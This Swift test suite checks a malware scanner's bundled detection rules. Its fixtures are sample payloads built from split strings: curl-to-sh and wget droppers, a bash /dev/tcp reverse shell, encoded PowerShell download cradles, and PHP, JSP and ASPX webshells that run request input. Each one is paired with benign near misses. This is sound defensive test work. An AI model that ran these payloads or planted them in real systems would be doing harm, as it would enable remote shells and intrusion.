import Foundation
import Glibc
import Testing
@testable import VigilEngine
import VigilSystem
import VigilTestSupport

/// Every bundled rule catches what it is for, misses its near miss, and the bundled set
/// is quiet on this machine's own /usr (VigilScanTests' StockSystemScanTests). Samples are assembled at run
/// time ("<?" + "php") so no source file here matches a rule.
@Suite("Bundled rules: every rule's fixture")
struct BundledRuleFixturesTests {
    let dir = TempDir()

    static let base64Blob = String(repeating: "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkw", count: 12)
    static let php = "<?" + "php "
    static let shebang = "#" + "!/bin/sh\n"

    /// (label, bytes, the rule it must trigger, or nil: must trigger none)
    static let samples: [(String, String, String?)] = [
        ("curl piped to sh", shebang + "cu" + "rl -s http://203.0.113.9/i.sh | sh\n", "Vigil_Dropper_Shell_Download_Execute"),
        ("wget to /tmp, chmod, run", "#" + "!/bin/bash\nwg" + "et http://203.0.113.9/p -O /tmp/p; chmod +x /tmp/p; /tmp/p\n",
         "Vigil_Dropper_Shell_Download_Execute"),
        ("wget to /tmp, chmod and nohup on lines of their own", "#" + "!/bin/bash\nwg" + "et http://203.0.113.9/p -O /tmp/p\n"
            + "chmod 755 /tmp/p\nnohup /tmp/p &\n", "Vigil_Dropper_Shell_Download_Execute"),
        ("curl to a file, no run", shebang + "cu" + "rl -o out.tar.gz https://example.org/x.tar.gz\n", nil),
        ("curl to /tmp, then unpacked, not run", shebang + "cu" + "rl -o /tmp/x.tar.gz https://e.org/x.tar.gz\ntar xzf /tmp/x.tar.gz -C /opt\n", nil),
        ("bash /dev/tcp", "#" + "!/bin/bash\nbash -i >& /dev/" + "tcp/203.0.113.9/4242 0>&1\n", "Vigil_Dropper_Reverse_Shell"),
        ("powershell -enc launcher", "@echo off\r\npower" + "shell.exe -NoP -W Hidden -Enc " + base64Blob + "\r\n",
         "Vigil_Dropper_PowerShell_Encoded_Download"),
        ("powershell -ec in a shell script", shebang + "power" + "shell -ec " + base64Blob + "\n", "Vigil_Dropper_PowerShell_Encoded_Download"),
        ("powershell cradle launcher", "power" + "shell -nop -c \"I" + "EX ((New-Object Net.WebClient).Download" + "String('http://203.0.113.9/a'))\"\n",
         "Vigil_Dropper_PowerShell_Encoded_Download"),
        // Node.js's BUILDING.md: a PowerShell session block in documentation, not a launcher.
        ("documentation of a cradle (nodejs BUILDING.md)", "an elevated (Administrator) Power" + "Shell terminal:\n\n```power" + "shell\n"
            + "Set-ExecutionPolicy Unrestricted -Force\ni" + "ex ((New-Object System.Net.WebClient).Download"
            + "String('https://boxstarter.org/bootstrapper.ps1'))\nget-boxstarter -Force\n```\n", nil),
        ("powershell with a long argument that is no -enc", "power" + "shell -File a.ps1 -ExecutionPolicy Bypass " + base64Blob + "\n", nil),
        ("PHP eval of request input", php + "ev" + "al($_" + "POST['c']); ?>\n", "Vigil_Webshell_PHP_Request_Eval"),
        ("PHP backtick of request input", php + "echo `$_" + "GET['x']`; ?>\n", "Vigil_Webshell_PHP_Request_Eval"),
        ("PHP that routes input", php + "$page = htmlspecialchars($_" + "GET['p']); include 'pages/' . basename($page); ?>\n", nil),
        ("PHP base64 loader", php + "ev" + "al(gzinflate(base64_" + "decode('" + base64Blob + "'))); ?>\n", "Vigil_Webshell_PHP_Obfuscated_Loader"),
        ("PHP shell family markers", php + "/* c99" + "shell */ $m = 'Files" + "Man'; ?>\n", "Vigil_Webshell_Known_Families"),
        ("JSP Runtime.exec of a parameter", "<% Runtime.getRuntime().ex" + "ec(request.getParameter(\"cmd\")); %>\n",
         "Vigil_Webshell_JSP_Runtime_Exec"),
        ("JSP exec of a constant", "<% Runtime.getRuntime().ex" + "ec(\"uptime\"); %>\n", nil),
        ("ASPX Process.Start of request input", "<%@ Page Language=\"C#\" %>\n<% System.Diagnostics.Process.St"
            + "art(\"cmd.exe\", Request.QueryString[\"c\"]); %>\n", "Vigil_Webshell_ASPX_Process_Start"),
        ("deny test marker", "x " + denyMarker + " y", "Vigil_Test_Marker"),
        ("audit test marker", "x " + auditMarker + " y", "Vigil_Test_Marker_Audit"),
    ]

    @Test("each bundled rule catches its sample and nothing else fires", arguments: Array(0..<samples.count))
    func sample(_ index: Int) throws {
        let (label, text, rule) = Self.samples[index]
        let r = try scanPath(dir.write("s\(index)", text), try loadBundled())
        #expect(r.findings.filter { $0.source == .rule }.map(\.name) == (rule.map { [$0] } ?? []), "\(label)")
        #expect(r.problems.isEmpty, "\(label): \(r.problems)")
    }

    @Test("every bundled rule has a sample above, and EICAR is caught by rule and by every hash list")
    func coverage() throws {
        let sigs = try loadBundled()
        let text = try String(contentsOfFile: bundledSignatures + "/droppers.yar", encoding: .utf8)
            + (try String(contentsOfFile: bundledSignatures + "/webshells.yar", encoding: .utf8))
            + (try String(contentsOfFile: bundledSignatures + "/vigil-test.yar", encoding: .utf8))
        let names = text.split(separator: "\n").filter { $0.hasPrefix("rule ") }.map { String($0.dropFirst(5)) }
        let covered = Set(Self.samples.compactMap(\.2))
        #expect(names.count >= 10)
        for name in names where name != "Vigil_Dropper_Reverse_Shell" { #expect(covered.contains(name), "\(name) has no sample") }
        let r = try scanPath(dir.write("eicar.com", eicar), sigs)
        #expect(Set(r.findings.map(\.name)) == ["Vigil_EICAR_Test_File", "Vigil.Test.EICAR.SHA256", "Vigil.Test.EICAR.SHA1", "Vigil.Test.EICAR.MD5"])
    }
}
